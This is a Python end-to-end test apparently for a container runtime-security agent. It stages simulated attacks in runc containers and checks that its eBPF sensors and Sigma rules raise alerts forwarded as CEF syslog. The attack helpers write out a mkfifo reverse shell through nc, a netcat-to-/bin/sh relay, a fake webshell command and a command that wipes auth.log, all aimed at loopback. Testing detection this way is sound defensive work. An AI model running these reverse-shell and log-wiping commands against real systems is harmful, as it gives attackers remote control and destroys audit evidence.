"""In-agent detection end to end: attacks in real runc containers (kubelet-shaped cgroups, a real
dash as /bin/sh so every command is an execve) are seen by the real eBPF sensors, evaluated by the
agent's own Sigma engine, and raised as alert events among the events; an alert-only syslog output
(``event_types: [alert]``, built from the configuration) delivers only those alerts, as CEF, to a
real rsyslogd on loopback.

Only the test's own containers are judged: other work on this machine may run containers too.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from agent_harness import CaptureSink
from conftest import require_ebpf, require_runc
from containers import Container, run_container
from loopback import listen, stop

from podtrail.config import Config
from podtrail.formatters.parse import parse_cef

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "forwarder"))  # the real-rsyslogd helper
from rsyslog import Rsyslog  # noqa: E402

FIFO_PORT, RELAY_IN, RELAY_OUT = 9011, 9012, 9013

EXPECTED: dict[str, set[str]] = {
    # a PHP-FPM worker running a command through system(): sh -c
    "webshell": {"podtrail_webshell_shell"},
    # mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f (the handler keeps the shell
    # busy a few seconds: the BCC sensor reads stdin from /proc after the exec, see PENDING)
    "fifo": {"podtrail_interactive_shell_no_tty", "podtrail_shell_pipe_network_tool", "podtrail_network_utility",
             "podtrail_corr_fifo_shell_relay"},
    # nc host 1 | /bin/sh | nc host 2
    "relay": {"podtrail_shell_pipe_network_tool", "podtrail_network_utility", "podtrail_corr_netcat_relay"},
    # : > /var/log/auth.log
    "logwipe": {"podtrail_log_file_deleted", "podtrail_log_clearing_command"},
}
# A dropped binary run as ./tool from /tmp. The path is resolved against the cwd the sensor reports
# with the exec; the BCC sensor reports none and /proc's is a host path for a container process,
# so this waits for the CO-RE process sensor (h13core), which reads the cwd in the kernel.
PENDING: dict[str, set[str]] = {"relative": {"podtrail_exec_from_tmp_or_shm", "podtrail_drift_binary_executed"}}


def install_dash(rootfs: Path) -> None:
    """/bin/sh is a real dash with its libraries (unless the rootfs already has one)."""
    if (rootfs / "bin/dash").exists():
        return
    out = subprocess.run(["ldd", "/bin/dash"], capture_output=True, text=True, check=True).stdout
    for lib in [p for line in out.splitlines() for p in line.split() if p.startswith("/")]:
        dest = rootfs / lib.lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        if not dest.exists():
            shutil.copy2(os.path.realpath(lib), dest)
    shutil.copy2("/bin/dash", rootfs / "bin/dash")
    (rootfs / "bin/sh").unlink()
    (rootfs / "bin/sh").symlink_to("dash")


def _webshell(c: Container) -> None:
    shutil.copy2("/bin/dash", c.rootfs / "usr/sbin/php-fpm8.2")  # a "PHP worker" that runs system()
    c.exec("/usr/sbin/php-fpm8.2", "-c", "/bin/sh -c id; true", check=False)


def _fifo(c: Container) -> None:
    c.exec("sh", "-c", f"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 {FIFO_PORT} > /tmp/f; rm -f /tmp/f",
           check=False)


def _relay(c: Container) -> None:
    c.exec("sh", "-c", f"nc 127.0.0.1 {RELAY_IN} | /bin/sh | nc 127.0.0.1 {RELAY_OUT}", check=False)


def _logwipe(c: Container) -> None:
    (c.rootfs / "var/log").mkdir(parents=True, exist_ok=True)
    (c.rootfs / "var/log/auth.log").write_text("Nov 29 sshd[1]: Accepted publickey for root\n")
    c.exec("sh", "-c", ": > /var/log/auth.log", check=False)


def _relative(c: Container) -> None:
    c.exec("sh", "-c", "cp /bin/busybox /tmp/tool && chmod 755 /tmp/tool", check=False)
    c.exec("sh", "-c", "cd /tmp && ./tool true", check=False)


ATTACKS = {"webshell": _webshell, "fifo": _fifo, "relay": _relay, "logwipe": _logwipe, "relative": _relative}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    require_ebpf()
    require_runc()
    from podtrail.agent import build_agent, build_default_sinks

    work = tmp_path_factory.mktemp("detect-e2e")
    rs = Rsyslog(work / "rsyslog")
    rs.start()
    listeners = [listen(FIFO_PORT, b"sleep 6\nexit\n", hold=8.0), listen(RELAY_IN, b"id\nsleep 6\nexit\n", hold=8.0),
                 listen(RELAY_OUT, hold=8.0)]
    cfg = Config()
    cfg.metrics.enabled = False
    cfg.spool_dir = str(work / "spool")
    cfg.outputs = [{"type": "syslog", "host": "127.0.0.1", "port": rs.tcp_port, "protocol": "tcp", "format": "cef",
                    "event_types": ["alert"], "name": "alerts-only"}]
    capture = CaptureSink()
    agent = build_agent(cfg, sinks=[capture, *build_default_sinks(cfg)])
    agent.start()
    ctrs: dict[str, Container] = {}
    try:
        for name, attack in ATTACKS.items():
            ctrs[name] = c = run_container("containerd-systemd")
            install_dash(c.rootfs)
            attack(c)
        last = ctrs["relative"]
        last.exec("sh", "-c", "echo detect-e2e-done", check=False)
        capture.wait_for(lambda e: "detect-e2e-done" in (e.get("cmdline") or "") and e.get("action") == "exec", timeout=30)
        time.sleep(1.5)
    finally:
        agent.stop()  # flushes the syslog output
        for c in ctrs.values():
            c.destroy()
        for s in listeners:
            stop(s)
    events = list(capture.events)
    alerts = [e for e in events if e.get("event_type") == "alert"]
    lines = rs.wait_lines(len(alerts), timeout=20)
    rs.stop()
    yield {"events": events, "alerts": alerts, "syslog": lines, "containers": {n: c.id for n, c in ctrs.items()}}


def _rules(alerts: list[dict[str, Any]], cid: str) -> set[str]:
    return {a["findings"].get("rule", "") if a["detection_kind"] == "signature" else _corr_name(a)
            for a in alerts if a.get("container_id") == cid}


def _corr_name(alert: dict[str, Any]) -> str:
    from podtrail.rules.catalog import rule_files

    return next(rf.name for rf in rule_files() if str(rf.doc["id"]) == alert["rule_id"])


def test_attacks_raise_their_alerts_in_the_agent(run: dict[str, Any]) -> None:
    alerts = run["alerts"]
    report = {n: sorted(_rules(alerts, cid)) for n, cid in run["containers"].items()}
    for name, want in EXPECTED.items():
        got = _rules(alerts, run["containers"][name])
        assert got == want, f"{name}: missing {sorted(want - got)}, unexpected {sorted(got - want)}; all: {report}"


def test_relative_execution_from_tmp_is_detected(run: dict[str, Any]) -> None:
    got = _rules(run["alerts"], run["containers"]["relative"])
    assert got == PENDING["relative"], sorted(got)


def test_alerts_follow_their_trigger_and_carry_its_context(run: dict[str, Any]) -> None:
    events, ours = run["events"], set(run["containers"].values())
    position = {e["event_id"]: i for i, e in enumerate(events)}
    mine = [a for a in run["alerts"] if a.get("container_id") in ours]
    assert mine
    for a in mine:
        assert all(position[t] < position[a["event_id"]] for t in a["trigger_ids"]), "an alert comes after its events"
        assert a["pod_uid"] and a["cgroup_path"] and a["severity"] >= 6
    corr = [a for a in mine if a["detection_kind"] == "correlation"]
    assert len(corr) >= 2 and all(len(a["trigger_ids"]) >= 2 for a in corr)
    fifo = next(a for a in mine if a["rule_title"].startswith("Interactive shell whose input"))
    assert fifo["stdin"] == "pipe" and fifo["path"] == "/bin/sh" and "nc 127.0.0.1" in fifo["parent_cmdline"]


def test_alert_only_syslog_output_delivers_only_alerts(run: dict[str, Any]) -> None:
    lines, alerts = run["syslog"], run["alerts"]
    assert alerts and len(lines) == len(alerts), (len(lines), len(alerts))
    parsed = [parse_cef(line) for line in lines]
    assert all(ext["cat"] == "alert" for _, ext in parsed), "only alerts reach the alert-only output"
    assert {ext["externalId"] for _, ext in parsed} == {a["event_id"] for a in alerts}
    by_id = {a["event_id"]: a for a in alerts}
    for header, ext in parsed:
        a = by_id[ext["externalId"]]
        assert header[5] == a["rule_title"] and int(header[6]) == a["severity"]  # CEF name and severity
        assert ext["ruleId"] == a["rule_id"] and ext["detectionKind"] == a["detection_kind"]
